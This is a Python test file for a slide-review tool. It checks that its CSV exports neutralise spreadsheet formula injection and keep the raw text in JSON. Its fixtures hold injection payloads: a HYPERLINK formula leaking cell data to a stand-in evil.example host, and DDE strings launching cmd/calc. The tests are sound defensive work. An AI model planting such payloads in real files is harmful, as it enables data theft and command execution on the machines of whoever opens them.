"""CSV formula injection (issue 20): notes, reviewer names, classes and slide names that a
spreadsheet would run (``=HYPERLINK(...)``, ``+cmd|' /C calc'!A0``, ``@SUM(1+1)``, a slide
named ``=2+5+cmd.tiff``) are neutralised in every CSV a reviewer may open (OWASP: a leading
``'``), numbers stay numbers, and the raw text stays in the JSON beside each CSV."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from napari_imilia.cli import main
from napari_imilia.cohort.review import Cohort
from napari_imilia.cohort.scoring import score_unscored
from napari_imilia.export import read_table_csv
from napari_imilia.report import write_cohort_report
from napari_imilia.review.bundle import export_review_bundle
from napari_imilia.review.grade import SlideGrade
from napari_imilia.review.grading import commit_grade
from napari_imilia.review.reads import READS_DIR
from napari_imilia.review.reviewer import load_reviewer
from napari_imilia.review.session import ReviewSession
from support.cohort_data import cohort_data, scored_results  # noqa: F401 (fixtures)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
SLIDE = "=2+5+cmd"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_cells(path: Path) -> list[str]:
    """Cells of a CSV file a spreadsheet would read as a formula (a trigger first, not a
    plain number)."""
    bad = []
    with open(path, newline="", encoding="utf-8") as handle:
        for row in csv.reader(handle):
            for cell in row:
                if cell[:1] in TRIGGERS:
                    try:
                        float(cell)
                    except ValueError:
                        bad.append(cell)
    return bad


def test_the_rule_is_reversible_and_leaves_numbers_alone() -> None:
    from napari_imilia.export.tables import (
        raw_frame,
        spreadsheet_csv,
        spreadsheet_raw,
        spreadsheet_safe,
    )

    for text in (HYPERLINK, CALC, SUM, MINUS, TAB, "\r=1", "'=x", "''@y", "-", "'", "a=b"):
        assert spreadsheet_raw(spreadsheet_safe(text)) == text
    assert spreadsheet_safe(CALC) == "'" + CALC and spreadsheet_safe("a=b") == "a=b"
    assert spreadsheet_safe("-0.5") == "-0.5" and spreadsheet_safe("+1e-3") == "+1e-3"
    assert spreadsheet_safe(-0.5) == -0.5 and spreadsheet_safe(None) is None
    table = pd.DataFrame({"note": [SUM, "-1", None], "score": [-0.25, 0.5, -3.0]})
    text = spreadsheet_csv(table)
    assert text.splitlines()[1:] == ["'@SUM(1+1),-0.25", "-1,0.5", ",-3.0"]
    back = raw_frame(pd.read_csv(pd.io.common.StringIO(text)))
    assert back["note"].iloc[0] == SUM and back["score"].tolist() == [-0.25, 0.5, -3.0]


def test_cohort_and_report_csvs_are_neutralised(
    scored_results: Path,  # noqa: F811
    cohort_data: dict,  # noqa: F811
    tmp_path: Path,
) -> None:
    results = Path(shutil.copytree(scored_results, tmp_path / "results"))
    slide = tmp_path / "slides" / f"{SLIDE}.tiff"
    slide.parent.mkdir()
    shutil.copy(cohort_data["folder"] / "case_03.tiff", slide)
    labels = tmp_path / "labels.csv"
    labels.write_text(f"slide,active\n{slide},1\n", encoding="utf-8")
    cohort = Cohort.build(labels, results)
    score_unscored(cohort, model_path=cohort_data["model"], device="cpu")
    index = cohort.index_of(SLIDE)
    assert cohort[index].scored
    cohort.set_grade(index, SlideGrade(nancy=3, note=HYPERLINK, reviewer=CALC))
    paths = write_cohort_report(cohort)

    for name in ("cohort_report.csv", "cohort.csv"):
        assert formula_cells(results / name) == [], name
    report = pd.read_csv(paths["csv"], dtype={"slide_id": str})
    row = report.set_index("slide_id").loc["'" + SLIDE]
    assert (row["note"], row["reviewer"]) == ("'" + HYPERLINK, "'" + CALC)
    assert pd.api.types.is_float_dtype(report["score"]) and row["score"] == pytest.approx(
        cohort[index].score
    )
    raw = json.loads(paths["json"].read_text(encoding="utf-8"))  # the raw text beside it
    (entry,) = [s for s in raw["slides"] if s["slide_id"] == SLIDE]
    assert (entry["note"], entry["reviewer"]) == (HYPERLINK, CALC)
    summary = pd.read_csv(results / "cohort.csv", dtype=str)
    assert "'" + SLIDE in set(summary["slide_id"])
    assert json.loads((results / SLIDE / "slide.json").read_text())["slide_id"] == SLIDE
    # cohort.csv is merged again on the next run: read back raw, never quoted twice
    score_unscored(cohort, model_path=cohort_data["model"], device="cpu")
    Cohort.build(results, results)
    again = pd.read_csv(results / "cohort.csv", dtype=str)
    assert list(again["slide_id"]).count("'" + SLIDE) == 1 and "''" + SLIDE not in set(
        again["slide_id"]
    )


def test_review_bundle_csvs_are_neutralised(small_svs: Path, tmp_path: Path) -> None:
    session = ReviewSession.open(small_svs, tmp_path / "results")
    session.add_review(
        verdict="agree",
        region=[(100, 100), (600, 100), (600, 500)],
        reviewer_class=SUM,
        note=HYPERLINK,
        reviewer=CALC,
    )
    session.add_review(
        verdict="disagree", region=[(50, 50), (90, 50), (90, 90)], note=MINUS, reviewer=TAB
    )
    commit_grade(
        session.results_root, session.slide_id, load_reviewer(), SlideGrade(nancy=2, note=SUM)
    )
    files = export_review_bundle(session, tmp_path / "bundle")
    tables = {p.name.split(".", 1)[1]: p for p in files if p.suffix == ".csv"}
    assert set(tables) == {"reviews.csv", "slide_grade.csv"}
    for path in tables.values():
        assert formula_cells(path) == [], path.name
    reviews, _ = read_table_csv(tables["reviews.csv"])  # read back: the raw text
    assert list(reviews["note"]) == [HYPERLINK, MINUS]
    assert list(reviews["reviewer"]) == [CALC, TAB] and reviews["reviewer_class"][0] == SUM
    grade, _ = read_table_csv(tables["slide_grade.csv"])
    assert grade["note"][0] == SUM and int(grade["nancy"][0]) == 2
    (journal,) = (session.results_dir / READS_DIR).iterdir()
    stored = json.loads(journal.read_text().splitlines()[-1])
    assert stored["read"]["grade"]["note"] == SUM  # the raw value in the JSON beside it
    notes = [e["note"] for e in json.loads((session.results_dir / "review.json").read_text())[
        "entries"
    ]]  # fmt: skip
    assert notes == [HYPERLINK, MINUS]


def test_imilia_score_csv_is_neutralised(
    scored_results: Path,  # noqa: F811
    cohort_data: dict,  # noqa: F811
    tmp_path: Path,
) -> None:
    features = tmp_path / "features"
    features.mkdir()
    shutil.copy(scored_results / "features" / "case_01.h5", features / f"{SLIDE}.h5")
    out = tmp_path / "scores"
    command = ["score", "--features", str(features), "--model", str(cohort_data["model"])]
    assert main([*command, "--out", str(out), "--device", "cpu"]) == 0
    assert formula_cells(out / "scores.csv") == []
    scores = pd.read_csv(out / "scores.csv")
    assert scores["slide_id"][0] == "'" + SLIDE and 0 <= scores["score"][0] <= 1
